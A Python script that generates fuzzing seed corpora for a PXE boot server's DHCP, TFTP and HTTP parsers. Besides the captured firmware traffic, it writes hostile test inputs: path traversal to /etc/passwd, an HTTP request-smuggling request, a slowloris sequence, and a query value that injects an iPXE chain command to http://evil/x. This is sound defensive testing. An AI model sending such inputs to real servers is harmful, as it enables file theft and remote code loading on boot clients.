#!/usr/bin/env python3
"""Writes the seed corpora under fuzz/corpus/<target>/ from what real clients send.

DHCP: the firmware requests and dnsmasq replies in engine/src/dhcp/fixtures.rs (iPXE ROM,
EDK2, relayed, UEFI HTTP boot, Linux, option overload; dnsmasq's proxy replies captured in a
namespace). TFTP: the option sets each firmware sends (the table in the design notes: EDK2's
size probe and real request, iPXE, PXELINUX, legacy BIOS ROMs, Windows bootmgr with
msftwindow), as whole exchanges for the server target. HTTP: requests captured from curl 7.88.1
on loopback and the ones iPXE sends (engine/src/http/request.rs's test). Re-run after changing
the fixtures; libFuzzer adds what it finds to the same directories.
"""
import os
import re
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
CORPUS = os.path.join(HERE, "corpus")


def write(target, name, data):
    d = os.path.join(CORPUS, target)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def hexbytes(text):
    return bytes(int(p, 16) for p in text.split())


# ---- DHCP: fixtures.rs ------------------------------------------------------------------------
def dhcp_fixtures():
    src = open(os.path.join(ROOT, "engine/src/dhcp/fixtures.rs")).read()
    src = src.replace("\\\n", " ")
    consts = dict(re.findall(r'const (\w+): &str = "([^"]*)";', src))
    out = {}
    for m in re.finditer(r"pub\(crate\) const (\w+): Fixture = Fixture \{(.*?)\n\};", src, re.S):
        name, body = m.group(1), m.group(2)
        header = re.search(r'header: "([^"]*)"', body).group(1)
        opts_src = re.search(r"options: &\[(.*)\]", body, re.S).group(1)
        opts_src = re.sub(r"//[^\n]*", "", opts_src)
        options = []
        for item in re.findall(r'"([^"]*)"|([A-Z0-9_]+)', opts_src):
            options.append(item[0] if item[0] else consts[item[1]])
        b = bytearray(hexbytes(header))
        assert len(b) == 44, name
        b += bytes(64 + 128) + bytes([0x63, 0x82, 0x53, 0x63])
        for o in options:
            tlv = hexbytes(o)
            assert tlv[1] + 2 == len(tlv), (name, o)
            b += tlv
        b.append(0xFF)
        out[name] = bytes(b)
    # overloaded_discover()
    b = bytearray(hexbytes(re.search(r'EDK2_DISCOVER: Fixture = Fixture \{\s*header: "([^"]*)"', src).group(1)))
    sname = bytearray(hexbytes("5d 02 00 07 ff")).ljust(64, b"\0")
    file = bytearray(hexbytes("3c 17 3a 41 72 63 68 3a 30 30 30 30 37 3a 55 4e 44 49 3a 30 30 33 30 30 30 ff")).ljust(128, b"\0")
    b += sname + file + bytes([0x63, 0x82, 0x53, 0x63])
    b += hexbytes("35 01 01  34 01 03  3c 09 50 58 45 43 6c 69 65 6e 74")
    b += hexbytes(consts["UUID_97"]) + b"\xff"
    out["OVERLOADED_DISCOVER"] = bytes(b)
    return out


def dhcp():
    for name, pkt in dhcp_fixtures().items():
        # Selector: bit 0 = port 4011, bits 1-2 = remote (1: 10.0.0.50:68, 2: a relay).
        to_4011 = "4011" in name
        relayed = "RELAYED" in name
        sel = (1 if to_4011 else 0) | ((2 if relayed else 1) << 1)
        write("dhcp", name.lower(), bytes([sel]) + pkt)


# ---- TFTP -------------------------------------------------------------------------------------
def rrq(name, opts, mode="octet", op=1):
    b = struct.pack(">H", op) + name.encode() + b"\0" + mode.encode() + b"\0"
    for k, v in opts:
        b += k.encode() + b"\0" + v.encode() + b"\0"
    return b


def ack(block, extra=None):
    return struct.pack(">HH", 4, block) + (bytes([extra]) if extra is not None else b"")


def error(code, msg):
    return struct.pack(">HH", 5, code) + msg.encode() + b"\0"


FIRMWARE_RRQS = {
    "edk2_probe": rrq("boot/loader.efi", [("tsize", "0"), ("blksize", "1468"), ("windowsize", "4")]),
    "edk2": rrq("boot/loader.efi", [("blksize", "1468"), ("windowsize", "4")]),
    "ipxe": rrq("pxelinux.0", [("blksize", "1432"), ("tsize", "0")]),
    "pxelinux": rrq("pxelinux.0", [("tsize", "0"), ("blksize", "1408")]),
    "bios": rrq("pxelinux.0", [("tsize", "0"), ("blksize", "1456")]),
    "bootmgr": rrq("Boot/BCD", [("blksize", "1456"), ("windowsize", "8"), ("msftwindow", "31416")]),
    "bootmgr_backslash": rrq("\\Boot\\BCD", [("blksize", "1456"), ("windowsize", "8"), ("msftwindow", "31416")]),
    "plain": rrq("small.bin", []),
    "padded": rrq("small.bin", []) + b"\0\0\0",
    "netascii": rrq("small.bin", [], mode="netascii"),
    "duplicate_blksize": rrq("small.bin", [("blksize", "1468"), ("blksize", "512")]),
    "timeout_255": rrq("small.bin", [("timeout", "255")]),
    "window_64": rrq("boot/loader.efi", [("blksize", "1468"), ("windowsize", "64")]),
    "traversal": rrq("../../etc/passwd", []),
    "missing": rrq("nope.efi", [("tsize", "0")]),
}


def tftp_packet():
    for name, p in FIRMWARE_RRQS.items():
        write("tftp_packet", "rrq_" + name, p)
    write("tftp_packet", "wrq", rrq("upload.bin", [("tsize", "100")], op=2))
    write("tftp_packet", "ack0", ack(0))
    write("tftp_packet", "ack_msftwindow", ack(12, 16))
    write("tftp_packet", "error8_probe_done", error(8, "size probe done"))
    write("tftp_packet", "error_unterminated", struct.pack(">HH", 5, 0) + b"abort")
    write("tftp_packet", "oack", struct.pack(">H", 6) + b"blksize\x001432\x00tsize\x0070000\x00")
    write("tftp_packet", "data", struct.pack(">HH", 3, 1) + bytes(range(64)))


def frame(tag, payload):
    return bytes([tag]) + struct.pack(">H", len(payload)) + payload


def listener(peer, payload):
    # tag & 7 = 0: to port 69; tag >> 3 & 3 = the peer.
    return frame((peer & 3) << 3, payload)


def transfer(index, peer, payload):
    # tag & 3 = 2: to the index-th transfer's port (index < 8); the peer in bits 3-4.
    return frame(2 | ((peer & 3) << 3) | (index << 5), payload)


def wait(ticks):
    # tag & 7 = 4: the clock moves ticks * 50 ms; due timeouts fire.
    return bytes([4, ticks])


def tftp_server():
    seqs = {}
    for name in ("edk2", "ipxe", "pxelinux", "bios", "bootmgr", "window_64"):
        p = FIRMWARE_RRQS[name]
        s = listener(0, p) + transfer(0, 0, ack(0))
        for b in (4, 8, 12, 16, 20):
            s += transfer(0, 0, ack(b, 8 if name == "bootmgr" else None))
        seqs[name] = bytes([0]) + s
    # EDK2: the size probe aborted with ERROR 8, then the real request from another port.
    seqs["edk2_probe_then_real"] = bytes([0]) + (
        listener(0, FIRMWARE_RRQS["edk2_probe"]) + transfer(0, 0, error(8, "size probe done"))
        + listener(1, FIRMWARE_RRQS["edk2"]) + transfer(1, 1, ack(0)) + transfer(1, 1, ack(4))
    )
    # Lock-step RFC 1350 transfer of exactly one 512-byte block plus the empty last one.
    seqs["plain_lockstep"] = bytes([0]) + listener(2, FIRMWARE_RRQS["plain"]) + transfer(0, 2, ack(1)) + transfer(0, 2, ack(2))
    # A client that ACKs once and vanishes; the clock runs.
    seqs["ack_once_then_silence"] = bytes([0]) + listener(0, FIRMWARE_RRQS["window_64"]) + transfer(0, 0, ack(0)) + wait(40) * 8
    # The same RRQ three times before any ACK; a stranger's ACK on the transfer port.
    seqs["repeated_rrq_and_stranger"] = bytes([0]) + (
        listener(0, FIRMWARE_RRQS["ipxe"]) * 3 + transfer(0, 2, ack(0)) + transfer(0, 0, ack(0)) + wait(30)
    )
    # Single-port mode (config bit 1): ACKs arrive on port 69.
    seqs["single_port"] = bytes([2]) + listener(0, FIRMWARE_RRQS["edk2"]) + listener(0, ack(0)) + listener(0, ack(4))
    # Caps (config bits 3-4): more transfers than allowed.
    seqs["caps"] = bytes([8 | 16]) + listener(0, FIRMWARE_RRQS["plain"]) + listener(1, FIRMWARE_RRQS["plain"]) + listener(2, FIRMWARE_RRQS["plain"])
    seqs["spoofed_timeout_255"] = bytes([0]) + listener(0, FIRMWARE_RRQS["timeout_255"]) + listener(2, FIRMWARE_RRQS["timeout_255"]) + wait(255) * 4
    seqs["duplicate_blksize"] = bytes([0]) + listener(0, FIRMWARE_RRQS["duplicate_blksize"]) + transfer(0, 0, ack(0)) + transfer(0, 0, ack(1))
    seqs["wrq_and_garbage"] = bytes([0]) + listener(0, rrq("x", [], op=2)) + listener(1, b"\x00\x09junk") + listener(2, ack(3))
    for name, s in seqs.items():
        write("tftp_server", name, s)


# ---- HTTP -------------------------------------------------------------------------------------
CURL = {
    "curl_get": "GET /boot.wim HTTP/1.1\r\nHost: 127.0.0.1:18050\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    "curl_multirange": "GET /sources/boot.wim HTTP/1.1\r\nHost: 127.0.0.1:18050\r\nRange: bytes=0-1023,4096-\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    "curl_head": "HEAD /ipxe.efi HTTP/1.1\r\nHost: 127.0.0.1:18050\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    "curl_http10_script": "GET /boot.ipxe?mac=52:54:00:12:34:56&arch=x86_64 HTTP/1.0\r\nHost: 127.0.0.1:18050\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    "curl_conditional_range": "GET /boot/bcd HTTP/1.1\r\nHost: 127.0.0.1:18050\r\nRange: bytes=100-200\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\nIf-None-Match: \"abc\"\r\nIf-Range: \"abc\"\r\n\r\n",
}
IPXE = {
    "ipxe_script": "GET /boot.ipxe?mac=52:54:00:12:34:56&uuid=01020304-0506-0708-090a-0b0c0d0e0f10&arch=x86_64 HTTP/1.1\r\nConnection: keep-alive\r\nUser-Agent: iPXE/1.21.1\r\nHost: 10.0.0.1:8050\r\n\r\n",
    "ipxe_menu": "GET /menu.ipxe HTTP/1.1\r\nConnection: keep-alive\r\nUser-Agent: iPXE/1.21.1\r\nHost: 10.0.0.1:8050\r\n\r\n",
    "ipxe_wimboot_range": "GET /sources/boot.wim HTTP/1.1\r\nConnection: keep-alive\r\nUser-Agent: iPXE/1.21.1\r\nHost: 10.0.0.1:8050\r\nRange: bytes=4096-8191\r\n\r\n",
    "ipxe_pipelined": "GET /Boot/BCD HTTP/1.1\r\nConnection: keep-alive\r\nUser-Agent: iPXE/1.21.1\r\nHost: 10.0.0.1:8050\r\n\r\nGET /boot.wim HTTP/1.1\r\nConnection: keep-alive\r\nUser-Agent: iPXE/1.21.1\r\nHost: 10.0.0.1:8050\r\n\r\n",
}
HOSTILE = {
    "host_bracket": "GET /boot.ipxe HTTP/1.1\r\nHost: [\r\n\r\n",
    "smuggling_te_cl": "GET /boot.wim HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "absolute_form": "GET http://10.0.0.1:8050/ipxe.efi HTTP/1.1\r\nHost: 10.0.0.1\r\n\r\n",
    "traversal": "GET /../../etc/passwd HTTP/1.1\r\nHost: h\r\n\r\n",
    "close_404_then_more": "GET /nope HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\nGET /boot.wim HTTP/1.1\r\nHost: h\r\n\r\n",
    "many_ranges": "GET /boot.wim HTTP/1.1\r\nHost: h\r\nRange: bytes=0-0,2-2,4-4,6-6,8-8,10-10,12-12,14-14,16-16,18-18,20-20,22-22,24-24,26-26,28-28,30-30,32-32\r\n\r\n",
}


def http():
    for name, req in {**CURL, **IPXE, **HOSTILE}.items():
        write("http_request", name, req)
        b = req.encode()
        # http_conn: config 0, the request in two pieces, drain, a second of time, drain.
        half = len(b) // 2
        seq = bytes([0]) + frame(0, b[:half]) + bytes([2]) + frame(0, b[half:]) + bytes([1, 3, 4, 1])
        write("http_conn", name, seq)
    # Slowloris: a head started and never finished while the clock runs past the header timeout.
    write("http_conn", "slowloris", bytes([0]) + frame(0, b"GET /boot.wim HTTP/1.1\r\nHo") + bytes([3, 40, 3, 40, 1]))
    # A client that never reads (tiny output buffer, config bit 7) and then closes.
    write("http_conn", "never_reads", bytes([0x80]) + frame(0, IPXE["ipxe_pipelined"].encode()) + bytes([2, 0x1c, 1]))


RANGES = [
    # (len selector, max-ranges, header): RFC 9110 section 14.1.2's examples on 10000 bytes
    # (selector 10 -> 10000), and what curl and wimboot send.
    (10, 16, "bytes=0-499"),
    (10, 16, "bytes=500-999"),
    (10, 16, "bytes=-500"),
    (10, 16, "bytes=9500-"),
    (10, 16, "bytes=0-0,-1"),
    (10, 16, "bytes= 0-999, 4500-5499, -1000"),
    (10, 16, "bytes=500-600,601-999"),
    (10, 16, "bytes=500-700,601-999"),
    (10, 16, "bytes=0-1023,4096-"),
    (0, 16, "bytes=-5"),
    (2, 16, "bytes=18446744073709551614-"),
    (10, 1, "bytes=0-1,3-4"),
    (10, 16, "items=0-5"),
    (10, 16, "bytes=99999999999999999999999-"),
]


def http_range():
    for i, (sel, maxr, header) in enumerate(RANGES):
        write("http_range", f"range_{i:02}", bytes([sel, maxr]) + header.encode())


QUERIES = [
    "mac=52:54:00:12:34:56&uuid=01020304-0506-0708-090a-0b0c0d0e0f10&arch=x86_64",
    "mac=52-54-00-12-34-56&arch=arm64",
    "mac=525400123456",
    "mac=52%3A54%3A00%3A12%3A34%3A56&uuid=0102030405060708090A0B0C0D0E0F10",
    "mac=${net0/mac}&uuid=${uuid}&arch=${buildarch}",
    "arch=x86_64%0Achain%20http://evil/x",
    "mac=52:54:00:12:34:56&mac=zz&arch=&uuid=",
]


def ipxe_query():
    for i, q in enumerate(QUERIES):
        write("ipxe_query", f"query_{i}", bytes([i % 4]) + q.encode())


REPORTS = [
    # What zpxe's scripts fetch (engine/src/http/ipxe.rs, Report::line), iPXE expanding them.
    "mac=52:54:00:12:34:56&stage=script",
    "mac=52:54:00:12:34:56&stage=chosen&entry=winpe",
    "mac=52:54:00:12:34:56&stage=failed",
    "mac=52-54-00-12-34-56&stage=loader&arch=7&uuid=01020304-0506-0708-090a-0b0c0d0e0f10&ip=10.0.0.9&detail=boot.wim",
    "mac=525400123456&stage=a%0Ab",
    "stage=x",
    "mac=${net0/mac}&stage=script",
]


def web_report():
    write("web_report", "sequence", "\n".join(REPORTS))
    for i, r in enumerate(REPORTS):
        write("web_report", f"report_{i}", r)


def config():
    write("config", "dist", open(os.path.join(ROOT, "dist/zpxe.toml"), "rb").read())
    write("config", "firmware_test", open(os.path.join(ROOT, "tests/fixtures/firmware/zpxe.toml"), "rb").read())
    write("config", "minimal", '[server]\nroot = "/tmp"\n')
    write("config", "rules", '[server]\nroot = "/tmp"\n[ports]\ntftp-range = "64001-65000"\n'
          '[menu]\ndefault = "x"\n[[menu.entries]]\nid = "x"\nlabel = "X"\nkind = { type = "shell" }\n'
          '[[menu.rules]]\nmac = "52:54:00:12:34:56"\nentry = "x"\n')


def main():
    dhcp()
    tftp_packet()
    tftp_server()
    http()
    http_range()
    ipxe_query()
    web_report()
    config()
    return 0


if __name__ == "__main__":
    sys.exit(main())
